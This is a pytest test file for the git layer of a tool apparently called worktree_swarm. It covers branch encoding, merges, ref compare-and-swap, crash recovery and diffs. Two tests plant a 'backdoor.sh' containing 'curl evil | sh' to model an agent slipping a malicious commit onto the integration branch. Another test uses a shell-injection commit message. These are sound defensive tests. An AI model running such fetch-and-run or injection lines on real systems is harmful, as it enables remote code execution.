"""The git layer on real git: branch names, in-memory merges, the compare-and-swap ref update,
discovery, diffs, worktrees, and the run's state with a real second process holding its lock."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import unquote

import pytest

from conftest import Repo, git
from worktree_swarm.util.errors import CommandError, NotARepositoryError, RefMovedError, RunNotFoundError, UsageError
from worktree_swarm.git.diff import FileChange, changed_files, diff_text
from worktree_swarm.git.merge_tree import MergeTree, clean_message, merge_tree
from worktree_swarm.git.refs import encode, integration_branch, task_branch, task_branch_prefix
from worktree_swarm.git.repo import Repo as GitRepo
from worktree_swarm.git.worktrees import FreshWorktrees, WorktreeInfo, list_worktrees, remove_worktree
from worktree_swarm.train.integration import Integration, IntegrationMovedError, merge_message
from worktree_swarm.store.run_store import RunStore, find_run, list_runs
from worktree_swarm.util.types import BranchName, RunId, Sha

RUN = RunId("20240101-000000-abcd")


def gitrepo(repo: Repo) -> GitRepo:
    return GitRepo.discover(repo.path)


def sha(repo: Repo, rev: str) -> Sha:
    return Sha(repo.git("rev-parse", rev))


def commit_on(repo: Repo, branch: str, start: str, files: dict[str, str | bytes | None], message: str) -> Sha:
    """A commit on a new BRANCH from START: text/bytes write a file, None deletes it; back to main after."""
    repo.git("checkout", "-q", "-b", branch, start)
    for rel, content in files.items():
        path = repo.path / rel
        if content is None:
            repo.git("rm", "-q", "--", rel)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    commit = Sha(repo.commit_all(message))
    repo.git("checkout", "-q", "main")
    return commit


def git_merge_tree_id(repo: Repo, tmp_path: Path, ours: str, theirs: str) -> str:
    """The tree an ordinary `git merge` produces, in a scratch worktree."""
    scratch = tmp_path / "scratch-merge"
    repo.git("worktree", "add", "-q", "--detach", str(scratch), ours)
    git(scratch, "merge", "-q", "--no-edit", theirs)
    tree = git(scratch, "rev-parse", "HEAD^{tree}")
    repo.git("worktree", "remove", "--force", str(scratch))
    return tree


# -- branch names -------------------------------------------------------------------------------


TRICKY_IDS = ["a", "a/b", "a%2Fb", "a%b", "a%252F", "a%25", "a%2F", "a/b/c", "a%2Fb/c", "a/%2F", "%"]


def test_encode_is_injective_and_flat() -> None:
    assert encode("a/b") == "a%2Fb"
    assert encode("a%2Fb") == "a%252Fb"
    assert encode("a%b") == "a%25b"
    assert encode("a%252F") == "a%25252F"
    encoded = [encode(task_id) for task_id in TRICKY_IDS]
    assert len(set(encoded)) == len(TRICKY_IDS)
    assert all("/" not in e for e in encoded)
    # Injective because it can be undone.
    assert [unquote(e) for e in encoded] == TRICKY_IDS


def test_task_branches_of_nested_ids_coexist_in_one_repository(repo: Repo) -> None:
    names = [integration_branch(RUN)] + [task_branch(RUN, task_id, n) for task_id in TRICKY_IDS for n in (1, 2)]
    assert task_branch(RUN, "a/b", 1) == "wswarm/20240101-000000-abcd/tasks/a%2Fb/1"
    assert integration_branch(RUN) == "wswarm/20240101-000000-abcd/integration"
    for name in names:
        repo.git("branch", name, "HEAD")    # git refuses a D/F conflict: this would fail
    assert sorted(repo.branches("wswarm")) == sorted(names)
    assert sorted(gitrepo(repo).branches(task_branch_prefix(RUN))) == sorted(names[1:])


# -- merge-tree ---------------------------------------------------------------------------------


TEN = "".join(f"line {i}\n" for i in range(1, 11))


def test_clean_merge_matches_git_merge(repo: Repo, tmp_path: Path) -> None:
    repo.write("shared.txt", TEN)
    base = repo.commit_all("shared")
    ours = commit_on(repo, "ours", base, {"shared.txt": TEN.replace("line 1\n", "OURS 1\n"),
                                          "ours only.txt": "o\n"}, "ours")
    theirs = commit_on(repo, "theirs", base, {"shared.txt": TEN.replace("line 10\n", "THEIRS 10\n"),
                                              "dir with space/ünïcode.txt": "t\n", "README.md": None}, "theirs")

    result = merge_tree(gitrepo(repo), ours, theirs)

    assert result == MergeTree(tree=Sha(git_merge_tree_id(repo, tmp_path, ours, theirs)), conflicts=[], messages=[])
    assert result.clean
    assert repo.git("show", f"{result.tree}:shared.txt") == \
        TEN.replace("line 1\n", "OURS 1\n").replace("line 10\n", "THEIRS 10\n").rstrip("\n")
    # Nothing was checked out: the user's checkout is still clean and on main.
    assert repo.git("status", "--porcelain") == ""
    assert repo.git("symbolic-ref", "HEAD") == "refs/heads/main"


def test_rename_on_one_side_and_edit_on_the_other_merges_like_git(repo: Repo, tmp_path: Path) -> None:
    repo.write("old.txt", TEN)
    base = repo.commit_all("old")
    repo.git("checkout", "-q", "-b", "ours", base)
    repo.git("mv", "old.txt", "new name ü.txt")
    repo.git("commit", "-q", "-m", "rename")
    ours = sha(repo, "HEAD")
    repo.git("checkout", "-q", "main")
    theirs = commit_on(repo, "theirs", base, {"old.txt": TEN + "line 11\n"}, "edit")

    result = merge_tree(gitrepo(repo), ours, theirs)

    assert result.tree == git_merge_tree_id(repo, tmp_path, ours, theirs)
    assert result.conflicts == [] and result.messages == []
    assert repo.git("ls-tree", "-z", "--name-only", result.tree or "").split("\0") == \
        ["README.md", "app", "new name ü.txt", ""]
    assert repo.git("show", f"{result.tree}:new name ü.txt") == (TEN + "line 11").rstrip("\n")


def test_conflicting_merge_lists_paths_and_conflict_messages(repo: Repo) -> None:
    spaced = "dir with space/ünïcode file.txt"
    repo.write(spaced, "1\n2\n3\n")
    repo.write("plain.txt", "p\n")
    repo.write("gone.txt", "g\n")
    repo.write("old.txt", TEN)
    base = repo.commit_all("base")
    ours = commit_on(repo, "ours", base, {spaced: "1\nO\n3\n", "plain.txt": "O\n", "gone.txt": None,
                                          "clean.txt": "fine\n"}, "ours")
    repo.git("checkout", "-q", "ours")
    repo.git("mv", "old.txt", "b.txt")
    repo.git("commit", "-q", "-m", "rename to b")
    ours = sha(repo, "HEAD")
    repo.git("checkout", "-q", "main")
    theirs = commit_on(repo, "theirs", base, {spaced: "1\nT\n3\n", "plain.txt": "T\n", "gone.txt": "g\ng2\n"},
                       "theirs")
    repo.git("checkout", "-q", "theirs")
    repo.git("mv", "old.txt", "c.txt")
    repo.git("commit", "-q", "-m", "rename to c")
    theirs = sha(repo, "HEAD")
    repo.git("checkout", "-q", "main")

    result = merge_tree(gitrepo(repo), ours, theirs)

    assert result.tree is None and not result.clean
    assert result.conflicts == ["b.txt", "c.txt", spaced, "gone.txt", "old.txt", "plain.txt"]
    assert result.messages == [
        f"CONFLICT (content): Merge conflict in {spaced}",
        f"CONFLICT (modify/delete): gone.txt deleted in {ours} and modified in {theirs}.  "
        f"Version {theirs} of gone.txt left in tree.",
        f"CONFLICT (rename/rename): old.txt renamed to b.txt in {ours} and to c.txt in {theirs}.",
        "CONFLICT (content): Merge conflict in plain.txt",
    ]


def test_a_path_with_a_newline_conflicts_by_its_real_name(repo: Repo) -> None:
    name = "two\nlines.txt"
    repo.write(name, "base\n")
    base = repo.commit_all("base")
    ours = commit_on(repo, "ours", base, {name: "ours\n"}, "ours")
    theirs = commit_on(repo, "theirs", base, {name: "theirs\n"}, "theirs")
    result = merge_tree(gitrepo(repo), ours, theirs)
    assert result.tree is None
    assert result.conflicts == [name]
    assert result.messages == [f"CONFLICT (content): Merge conflict in {name}"]


def test_merge_tree_errors_raise_instead_of_looking_like_a_conflict(repo: Repo) -> None:
    head = sha(repo, "HEAD")
    repo.git("checkout", "-q", "--orphan", "unrelated")
    repo.git("rm", "-q", "-r", "-f", ".")
    repo.write("other.txt", "o\n")
    unrelated = Sha(repo.commit_all("unrelated root"))
    repo.git("checkout", "-q", "-f", "main")
    with pytest.raises(CommandError) as info:
        merge_tree(gitrepo(repo), head, unrelated)
    assert info.value.returncode == 128
    assert info.value.argv[:3] == ["git", "merge-tree", "--write-tree"]
    assert info.value.argv[-2:] == [head, unrelated]
    assert "refusing to merge unrelated histories" in info.value.output


# Found here: git exits 1 (as for a conflict) for "not something we can merge"; merge_tree read
# that as a conflict with no paths.
@pytest.mark.parametrize("bad", ["0123456789abcdef0123456789abcdef01234567", "no-such-branch"])
def test_merge_tree_with_an_unknown_commit_raises(repo: Repo, bad: str) -> None:
    head = sha(repo, "HEAD")
    with pytest.raises(CommandError) as info:
        merge_tree(gitrepo(repo), head, Sha(bad))
    assert "not something we can merge" in info.value.output
    assert info.value.argv[-2:] == [head, bad]


# -- the merge train's one step -------------------------------------------------------------------


def integration_at(repo: Repo, base: str) -> BranchName:
    branch = integration_branch(RUN)
    repo.git("branch", branch, base)
    return branch


def train_at(repo: Repo, tmp_path: Path, head: str) -> Integration:
    """A run whose integration branch is at HEAD, as the run itself recorded it."""
    branch = integration_at(repo, head)
    store = RunStore.create(tmp_path / "run", run_id=RUN, base=head, base_ref="main", integration_branch=branch,
                            plan_json="[]", task_ids=[], options={})
    return Integration(gitrepo(repo), store)


def test_a_merge_makes_one_two_parent_commit_and_moves_the_branch(repo: Repo, tmp_path: Path) -> None:
    base = sha(repo, "HEAD")
    other = commit_on(repo, "other", base, {"other.txt": "o\n"}, "other")
    train = train_at(repo, tmp_path, other)
    branch = train.branch
    theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
    message = merge_message("refactor/buttons", "Convert buttons\nsecond line", body="attempt 2")

    result = train.merge(Sha(theirs), message)

    assert result.merge_commit is not None and result.conflicts == [] and result.messages == []
    assert result.integration_head == other
    assert sha(repo, branch) == result.merge_commit == train.head == train.store.run().integration_head
    assert repo.git("rev-list", "--parents", "-n", "1", branch).split() == [result.merge_commit, other, theirs]
    assert repo.git("log", "-1", "--format=%B", branch) == \
        "wswarm: merge refactor/buttons — Convert buttons\n\nattempt 2"
    assert repo.git("log", "-1", "--format=%an <%ae>", branch) == "Test User <test@example.invalid>"
    assert repo.git("rev-parse", f"{branch}^{{tree}}") == git_merge_tree_id(repo, tmp_path, other, theirs)
    assert repo.git("reflog", "-1", "--format=%gs", branch) == "wswarm: merge refactor/buttons — Convert buttons"
    assert repo.git("status", "--porcelain") == "" and repo.git("symbolic-ref", "HEAD") == "refs/heads/main"


@pytest.mark.parametrize("text", [
    "t1: add a file", "t1: trailing spaces   ", "\n\nt1: blank lines first\n\n\n\nand between\n\n",
    "t1: tab\t\n  indented stays indented\n \n\t\nend", "t1: \u00e9t\u00e9 \u2014 unicode\r\nCRLF line\r\n",
])
def test_leftover_commit_messages_are_cleaned_as_git_commit_cleans_them(text: str) -> None:
    # `git stripspace` is the cleanup `git commit -F` applies when no editor runs.
    expected = subprocess.run(["git", "stripspace"], input=text.encode(), capture_output=True, check=True).stdout
    assert clean_message(text).encode() == expected


def test_merge_message_is_one_cut_line() -> None:
    assert merge_message("t", "  x  ") == "wswarm: merge t — x\n"
    assert merge_message("t", "y" * 150) == "wswarm: merge t — " + "y" * 99 + "…\n"


def test_a_branch_built_on_a_merged_commit_merges_from_that_commit_as_git_does(repo: Repo, tmp_path: Path) -> None:
    # The train finds a task's merge base from what its head reaches, without libgit2's walk: a branch
    # whose line runs through a commit already merged has that commit as its base. Taking the run's base
    # instead would bring back g.txt = 2, which task C reverted after A.
    base = sha(repo, "HEAD")
    repo.git("checkout", "-q", "-b", "g", base)
    (repo.path / "g.txt").write_text("1\n")
    base = Sha(repo.commit_all("g"))
    repo.git("checkout", "-q", "main")
    train = train_at(repo, tmp_path, base)

    def reached() -> set[str]:      # what the train holds its head reaches, against git's own answer
        assert train._reach() == {base, *repo.git("rev-list", train.head, "--not", base).split()}
        return train._reach()

    a = commit_on(repo, "a", base, {"g.txt": "2\n"}, "a")
    assert train.merge(a, merge_message("a", "a")).merge_commit in reached()
    c = commit_on(repo, "c", train.head, {"g.txt": "1\n"}, "c")
    train.merge(c, merge_message("c", "c"))
    b = commit_on(repo, "b", a, {"b.txt": "b\n"}, "b")
    ours = train.head

    result = train.merge(b, merge_message("b", "b"))

    assert result.merge_commit is not None and b in reached()
    assert repo.git("rev-parse", f"{result.merge_commit}^{{tree}}") == git_merge_tree_id(repo, tmp_path, ours, b)
    assert repo.git("show", f"{result.merge_commit}:g.txt") == "1"
    # A branch that merged the head into itself (news) is git's to merge; what the head reaches follows.
    repo.git("checkout", "-q", "-b", "d", base)
    (repo.path / "d.txt").write_text("d\n")
    repo.commit_all("d")
    repo.git("merge", "-q", "--no-edit", train.head)
    d = sha(repo, "HEAD")
    repo.git("checkout", "-q", "main")
    train.merge(d, merge_message("d", "d"))
    e = commit_on(repo, "e", base, {"e.txt": "e\n"}, "e")
    ours = train.head
    result = train.merge(e, merge_message("e", "e"))
    assert d in reached() and repo.git("rev-parse", f"{result.merge_commit}^{{tree}}") == \
        git_merge_tree_id(repo, tmp_path, ours, e)


def test_a_conflicting_merge_leaves_the_branch_alone(repo: Repo, tmp_path: Path) -> None:
    base = sha(repo, "HEAD")
    ours = commit_on(repo, "ours", base, {"app/core.py": "VALUE = 2\n"}, "ours")
    theirs = commit_on(repo, "theirs", base, {"app/core.py": "VALUE = 3\n"}, "theirs")
    train = train_at(repo, tmp_path, ours)
    reflog = repo.git("reflog", "show", "--format=%H %gs", train.branch)

    result = train.merge(Sha(theirs), merge_message("t", "d"))

    assert result.merge_commit is None
    assert result.integration_head == ours
    assert result.conflicts == ["app/core.py"]
    assert result.messages == ["CONFLICT (content): Merge conflict in app/core.py"]
    assert sha(repo, train.branch) == ours == train.head
    assert repo.git("reflog", "show", "--format=%H %gs", train.branch) == reflog


def test_a_commit_slipped_onto_the_integration_branch_is_never_adopted(repo: Repo, tmp_path: Path) -> None:
    # An agent moves the ref to a commit of its own (a backdoor no gate saw): the train refuses to
    # merge on top of it, names it, and leaves both the ref and the recorded head alone.
    base = sha(repo, "HEAD")
    train = train_at(repo, tmp_path, base)
    backdoor = commit_on(repo, "evil", base, {"backdoor.sh": "curl evil | sh\n"}, "innocent")
    repo.git("update-ref", f"refs/heads/{train.branch}", backdoor)
    theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")

    with pytest.raises(IntegrationMovedError, match=f"it is at {backdoor[:12]}") as caught:
        train.merge(Sha(theirs), merge_message("t", "d"))

    assert caught.value.exit_code == 1
    assert sha(repo, train.branch) == backdoor and train.store.run().integration_head == base
    [event] = [e for e in train.store.events() if e["kind"] == "integration-moved"]
    assert (event["expected"], event["found"]) == (base, backdoor)


def test_a_deleted_integration_branch_is_recreated_from_the_recorded_head(repo: Repo, tmp_path: Path) -> None:
    base = sha(repo, "HEAD")
    train = train_at(repo, tmp_path, base)
    repo.git("update-ref", "-d", f"refs/heads/{train.branch}")
    theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")

    result = train.merge(Sha(theirs), merge_message("t", "d"))

    assert result.merge_commit is not None and sha(repo, train.branch) == result.merge_commit
    assert [e["kind"] for e in train.store.events()] == ["integration-restored"]


def test_a_move_a_crash_interrupted_is_settled_by_where_git_says_the_ref_is(repo: Repo, tmp_path: Path) -> None:
    base = sha(repo, "HEAD")
    train = train_at(repo, tmp_path, base)
    theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
    train.store.start_attempt("t", 1, branch="task", start=base)
    train.store.finish_attempt("t", 1, outcome="gated", head=theirs)
    merged = merge_tree(train.repo, base, theirs)
    assert merged.tree is not None
    new = train.repo.commit(merged.tree, [base, theirs], merge_message("t", "d"))
    # Written ahead, then the process died before the ref moved: the move never happened.
    train.store.set_run(integration_pending=new)
    again = Integration(train.repo, train.store)
    assert again.recover() == [] and again.head == base and train.store.run().integration_pending is None
    # Written ahead, the ref moved, then the process died before confirming it: it happened.
    train.store.set_run(integration_pending=new)
    repo.git("update-ref", f"refs/heads/{train.branch}", new, base)
    again = Integration(train.repo, train.store)
    assert again.recover() and again.head == new == train.store.run().integration_head


def test_a_merge_git_fails_on_raises_its_error_and_moves_nothing(repo: Repo, tmp_path: Path) -> None:
    base = sha(repo, "HEAD")
    train = train_at(repo, tmp_path, base)
    with pytest.raises(CommandError):
        train.merge(Sha("1" * 40), merge_message("t", "d"))
    assert sha(repo, train.branch) == base == train.head


def test_outcomes_merged_together_move_the_branch_once(repo: Repo, tmp_path: Path) -> None:
    base = sha(repo, "HEAD")
    train = train_at(repo, tmp_path, base)
    a = commit_on(repo, "a", base, {"app/core.py": "VALUE = 2\n"}, "a")
    b = commit_on(repo, "b", base, {"app/core.py": "VALUE = 3\n"}, "b")      # conflicts with a
    c = commit_on(repo, "c", base, {"c.txt": "c\n"}, "c")
    reflog = repo.git("reflog", "show", "--format=%H", train.branch).split()

    results, error = train.merge_all([(a, merge_message("a", "d")), (b, merge_message("b", "d")),
                                      (c, merge_message("c", "d"))])

    assert error is None and [r.merge_commit is not None for r in results] == [True, False, True]
    merge_a, merge_c = results[0].merge_commit, results[2].merge_commit
    # each onto the one before; the conflicting one onto a's merge, which the next one took too
    assert [r.integration_head for r in results] == [base, merge_a, merge_a] and results[1].conflicts == ["app/core.py"]
    assert repo.git("rev-list", "--parents", "-n", "1", str(merge_c)).split() == [merge_c, merge_a, c]
    assert sha(repo, train.branch) == merge_c == train.head == train.store.run().integration_head
    assert repo.git("rev-parse", f"{merge_c}^{{tree}}") == git_merge_tree_id(repo, tmp_path, str(merge_a), c)
    # one move: one entry in the branch's log, naming the last merge and how many came before it
    assert repo.git("reflog", "show", "--format=%H", train.branch).split() == [merge_c, *reflog]
    assert repo.git("reflog", "-1", "--format=%gs", train.branch) == "wswarm: merge c — d (and 1 merges before it)"


def test_a_move_of_several_merges_a_crash_interrupted_is_checked_merge_by_merge(repo: Repo, tmp_path: Path) -> None:
    base = sha(repo, "HEAD")
    train = train_at(repo, tmp_path, base)
    heads = [commit_on(repo, f"t{i}", base, {f"t{i}.txt": "t\n"}, f"t{i}") for i in range(3)]
    chain, at = [], base
    for i, theirs in enumerate(heads):
        train.store.start_attempt(f"t{i}", 1, branch=f"t{i}", start=base)
        train.store.finish_attempt(f"t{i}", 1, outcome="gated", head=theirs)
        merged = merge_tree(train.repo, Sha(at), theirs)
        assert merged.tree is not None
        at = train.repo.commit(merged.tree, [at, theirs], merge_message(f"t{i}", "d"))
        chain.append(at)
    # the ref moved to the last of three merges, then the process died before confirming it
    train.store.set_run(integration_pending=chain[-1])
    repo.git("update-ref", f"refs/heads/{train.branch}", chain[-1], base)
    again = Integration(train.repo, train.store)
    assert again.recover() and again.head == chain[-1] == train.store.run().integration_head
    # one merge in the line of an attempt that never passed its gate: the whole claim is refused
    repo.git("update-ref", f"refs/heads/{train.branch}", base)
    train.store.set_run(integration_head=base)
    train.store.finish_attempt("t1", 1, outcome="failed", head=heads[1])
    train.store.set_run(integration_pending=chain[-1])
    repo.git("update-ref", f"refs/heads/{train.branch}", chain[-1], base)
    with pytest.raises(IntegrationMovedError):
        Integration(train.repo, train.store).recover()
    assert train.store.run().integration_head == base


def test_a_pending_move_is_a_claim_that_git_must_bear_out(repo: Repo, tmp_path: Path) -> None:
    # Something that can write the state file records its own commit as "pending" and moves the ref.
    base = sha(repo, "HEAD")
    train = train_at(repo, tmp_path, base)
    backdoor = commit_on(repo, "evil", base, {"backdoor.sh": "curl evil | sh\n"}, "innocent")
    train.store.set_run(integration_pending=backdoor)
    repo.git("update-ref", f"refs/heads/{train.branch}", backdoor, base)
    with pytest.raises(IntegrationMovedError):
        Integration(train.repo, train.store).recover()
    assert train.store.run().integration_head == base


def test_update_ref_is_a_compare_and_swap(repo: Repo) -> None:
    g = gitrepo(repo)
    base = sha(repo, "HEAD")
    branch = integration_at(repo, base)
    theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
    merged = merge_tree(g, base, theirs)
    assert merged.tree is not None
    ours = g.branch_sha(branch)                       # read ...
    assert ours == base
    mine = g.commit(merged.tree, [base, theirs], "mine")
    someone = commit_on(repo, "someone", base, {"someone.txt": "s\n"}, "someone")
    repo.git("update-ref", f"refs/heads/{branch}", someone)      # ... another process moves it ...

    with pytest.raises(RefMovedError) as info:                   # ... and the update must not win
        g.update_ref(branch, mine, ours, reason="stale")

    assert sha(repo, branch) == someone
    assert info.value.message == (f"refs/heads/{branch} moved under wswarm (expected {base}, found {someone})")
    # Creating a branch that exists already is the same refusal.
    with pytest.raises(RefMovedError):
        g.update_ref(branch, mine, None, reason="create")
    assert sha(repo, branch) == someone
    # With the right old value it moves.
    g.update_ref(branch, mine, someone, reason="fresh")
    assert sha(repo, branch) == mine
    # And creating a new one works once.
    g.update_ref("wswarm/fresh", mine, None, reason="new")
    assert g.branch_sha("wswarm/fresh") == mine


def test_a_ref_write_that_fails_where_the_ref_has_not_moved_says_why(repo: Repo) -> None:
    g = gitrepo(repo)
    base = sha(repo, "HEAD")
    branch = integration_at(repo, base)
    theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
    lock = repo.path / ".git" / "refs" / "heads" / f"{branch}.lock"
    lock.parent.mkdir(parents=True, exist_ok=True)
    lock.write_text("")             # another git process is writing it
    with pytest.raises(CommandError, match="lock"):
        g.update_ref(branch, theirs, base, reason="blocked")
    assert sha(repo, branch) == base
    lock.unlink()
    g.update_ref(branch, theirs, base, reason="free")
    assert sha(repo, branch) == theirs


def test_a_branch_and_refs_are_deleted_in_process_even_one_checked_out_in_a_worktree(repo: Repo, tmp_path: Path) -> None:
    from worktree_swarm.remote import gitwire

    g = gitrepo(repo)
    base = sha(repo, "HEAD")
    repo.git("branch", "gone", base)
    repo.git("worktree", "add", "-q", str(tmp_path / "wt"), "-b", "busy", base)
    g.delete_branch("gone")
    g.delete_branch("busy")         # as `update-ref -d` would: the worktree is wswarm's own to drop
    g.delete_branch("never-was")
    assert repo.git("for-each-ref", "--format=%(refname)", "refs/heads/gone", "refs/heads/busy") == ""
    repo.git("update-ref", "refs/wswarm/r/start/a", base)
    repo.git("update-ref", "refs/wswarm/r/start/b", base)
    gitwire.forget_refs(g, ["refs/wswarm/r/start/a", "refs/wswarm/r/start/missing"])
    assert repo.git("for-each-ref", "--format=%(refname)", "refs/wswarm/") == "refs/wswarm/r/start/b"


def test_commit_tree_keeps_the_message_byte_for_byte(repo: Repo) -> None:
    g = gitrepo(repo)
    head = sha(repo, "HEAD")
    message = "t: $(touch pwned) `id` 'quote' \"dq\"\n\n-p not-an-option\n"
    commit = g.commit(Sha(repo.git("rev-parse", "HEAD^{tree}")), [head], message)
    assert repo.git("cat-file", "commit", commit).split("\n\n", 1)[1] == message.rstrip("\n")
    assert not (repo.path / "pwned").exists()


def test_a_commit_made_in_process_is_the_one_git_commit_tree_makes(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    head = sha(repo, "HEAD")
    other = commit_on(repo, "other", head, {"o.txt": "o\n"}, "other")
    tree = Sha(repo.git("rev-parse", "HEAD^{tree}"))
    message = "t: a task\n\nwith a body ü\n"

    def by_git(*parents: str) -> str:
        argv = [arg for parent in parents for arg in ("-p", parent)]
        return subprocess.run(["git", "commit-tree", tree, *argv, "-F", "-"], cwd=repo.path,
                              input=message, capture_output=True, text=True, check=True).stdout.strip()

    # Dates set by the environment: the very same object, id and all.
    monkeypatch.setenv("GIT_AUTHOR_DATE", "1700000000 +0130")
    monkeypatch.setenv("GIT_COMMITTER_DATE", "1700000100 -0700")
    monkeypatch.setenv("GIT_AUTHOR_NAME", "Ann Author")
    assert gitrepo(repo).commit(tree, [head, other], message) == by_git(head, other)
    assert gitrepo(repo).commit(tree, [head, head], message) == by_git(head, head)     # one parent, as git
    # Dates of now, in the local zone: the same but for the second it was made in.
    for var in ("GIT_AUTHOR_DATE", "GIT_COMMITTER_DATE"):
        monkeypatch.delenv(var)
    monkeypatch.setenv("TZ", "Asia/Kolkata")
    time.tzset()
    try:
        mine = repo.git("cat-file", "commit", gitrepo(repo).commit(tree, [head, other], message))
        theirs = repo.git("cat-file", "commit", by_git(head, other))
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()
    assert re.sub(r"> \d+ ", "> T ", mine) == re.sub(r"> \d+ ", "> T ", theirs)
    assert "Ann Author" in mine and "+0530" in mine
    # A tree that is not there fails as git's commit-tree would.
    with pytest.raises(CommandError, match="commit-tree"):
        gitrepo(repo).commit(Sha("1" * 40), [head], message)
    # A commit encoding other than UTF-8 is left to git, which records it.
    repo.git("config", "i18n.commitEncoding", "ISO-8859-1")
    latin = gitrepo(repo).commit(tree, [head], "t: plain\n")
    assert "\nencoding ISO-8859-1\n" in repo.git("cat-file", "commit", latin)


def test_no_identity_is_what_git_says(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    (Path(os.environ["HOME"]) / ".gitconfig").write_text("[user]\n\tname = Test User\n\tuseConfigOnly = true\n")
    monkeypatch.delenv("EMAIL", raising=False)
    with pytest.raises(CommandError, match="commit-tree"):
        gitrepo(repo).commit(Sha(repo.git("rev-parse", "HEAD^{tree}")), [sha(repo, "HEAD")], "m\n")


# -- discovery ----------------------------------------------------------------------------------


def test_discover_from_a_subdirectory(repo: Repo) -> None:
    g = GitRepo.discover(repo.path / "app")
    assert g.root == repo.path
    assert g.common_dir.resolve() == (repo.path / ".git").resolve()
    assert g.state_dir.resolve() == repo.state_dir.resolve()


def test_discover_from_a_linked_worktree_uses_the_main_git_dir(repo: Repo, tmp_path: Path) -> None:
    linked = tmp_path / "linked"
    repo.git("worktree", "add", "-q", "-b", "side", str(linked))
    g = GitRepo.discover(linked / "app")
    assert g.root == linked
    assert g.common_dir.resolve() == (repo.path / ".git").resolve()
    assert g.state_dir.resolve() == repo.state_dir.resolve()
    assert g.ref_sha("HEAD") == sha(repo, "HEAD")


def test_discover_refuses_bare_empty_and_plain_folders(tmp_path: Path) -> None:
    bare = tmp_path / "bare.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    empty = tmp_path / "empty"
    git(tmp_path, "init", "-q", str(empty))
    plain = tmp_path / "plain"
    plain.mkdir()
    for folder in (bare, empty, plain, empty / ".git"):
        with pytest.raises(NotARepositoryError):
            GitRepo.discover(folder)
    with pytest.raises(NotARepositoryError) as info:
        GitRepo.discover(empty)
    assert info.value.message == f"the repository at {empty} has no commits yet"
    with pytest.raises(NotARepositoryError) as info:
        GitRepo.discover(bare)
    assert info.value.message.startswith(f"{bare} is a bare repository")
    with pytest.raises(NotARepositoryError) as info:
        GitRepo.discover(plain)
    assert info.value.message == f"{plain} is not inside a git repository"


def test_resolve_and_refs(repo: Repo) -> None:
    g = gitrepo(repo)
    head = sha(repo, "HEAD")
    repo.git("tag", "-a", "-m", "annotated", "v1")
    assert g.ref_sha("v1") == head                    # an annotated tag peels to its commit
    assert g.resolve_commit("main") == head
    assert g.ref_sha("nosuchref") is None
    assert g.branch_sha("main") == head and g.branch_sha("nope") is None
    assert g.is_ancestor(head, head)
    assert not g.is_dirty()
    repo.write("untracked.txt", "u\n")
    assert g.is_dirty()


# -- diffs --------------------------------------------------------------------------------------


def test_changed_files_numstat(repo: Repo) -> None:
    repo.write("old.txt", TEN)
    repo.write("modified.txt", "a\nb\nc\n")
    base = repo.commit_all("base")
    (repo.path / "moved").mkdir()
    repo.git("mv", "old.txt", "moved/new.txt")
    repo.write("moved/new.txt", TEN + "line 11\n")
    repo.write("modified.txt", "a\nB\nc\nd\n")
    (repo.path / "image.bin").write_bytes(b"\x00\x01\x02\xff" * 64)
    repo.write("with space.txt", "s\n")
    repo.write("ünïcode.txt", "u\n")
    repo.write("new\nline.txt", "n\n")
    repo.git("rm", "-q", "README.md")
    head = repo.commit_all("change")

    changes = changed_files(gitrepo(repo), Sha(base), Sha(head))

    assert changes == [
        FileChange("README.md", 0, 1),
        FileChange("image.bin", None, None),
        FileChange("modified.txt", 2, 1),
        FileChange("moved/new.txt", 1, 0, old_path="old.txt"),
        FileChange("new\nline.txt", 1, 0),
        FileChange("with space.txt", 1, 0),
        FileChange("ünïcode.txt", 1, 0),
    ]
    assert changed_files(gitrepo(repo), Sha(head), Sha(head)) == []


def test_diff_text_keeps_a_lone_cr_and_ignores_noprefix(repo: Repo) -> None:
    base = sha(repo, "HEAD")
    # A real top-level folder named `a/`: with noprefix the paths would lose it.
    repo.write("a/file.txt", "x\n")
    (repo.path / "cr.txt").write_bytes(b"one\rstill one\ntwo\n")
    head = Sha(repo.commit_all("cr"))
    for key, value in [("diff.noprefix", "true"), ("color.ui", "always"), ("color.diff", "always"),
                       ("diff.mnemonicPrefix", "true"), ("diff.external", "false")]:
        repo.git("config", key, value)

    text = diff_text(gitrepo(repo), base, head)

    lines = text.split("\n")
    assert "+one\rstill one" in lines
    assert "+two" in lines
    assert "diff --git a/a/file.txt b/a/file.txt" in lines
    assert "--- /dev/null" in lines and "+++ b/a/file.txt" in lines and "+++ b/cr.txt" in lines
    assert "\x1b[" not in text
    plain = subprocess.run(["git", "-c", "diff.noprefix=false", "-c", "diff.mnemonicPrefix=false", "-c",
                            "color.ui=never", "diff", "--no-color", "--no-ext-diff", "-M", base, head], cwd=repo.path, capture_output=True,
                           check=True).stdout
    assert text.encode("utf-8", "surrogateescape") == plain


def test_changed_files_hands_diff_text_the_same_patch_git_diff_prints(repo: Repo) -> None:
    repo.write("old.txt", "1\n2\n3\n4\n5\n")
    base = Sha(repo.commit_all("base"))
    repo.git("mv", "old.txt", "new name ü.txt")
    repo.write("tab\tname.txt", "t\n")
    (repo.path / "cr.txt").write_bytes(b"one\rstill one\n")
    (repo.path / "image.bin").write_bytes(b"\x00\x01\xff" * 8)
    head = Sha(repo.commit_all("change"))
    git_repo = gitrepo(repo)
    changes = changed_files(git_repo, base, head)
    assert [c.path for c in changes] == ["cr.txt", "image.bin", "new name ü.txt", "tab\tname.txt"]
    # Taken from changed_files' process, then computed again: both are git's own patch.
    kept, again = diff_text(git_repo, base, head), diff_text(git_repo, base, head)
    assert kept == again and "\nrename from old.txt\n" in kept and "+one\rstill one" in kept.split("\n")
    assert diff_text(git_repo, base, head, ["cr.txt"]).startswith("diff --git a/cr.txt b/cr.txt")


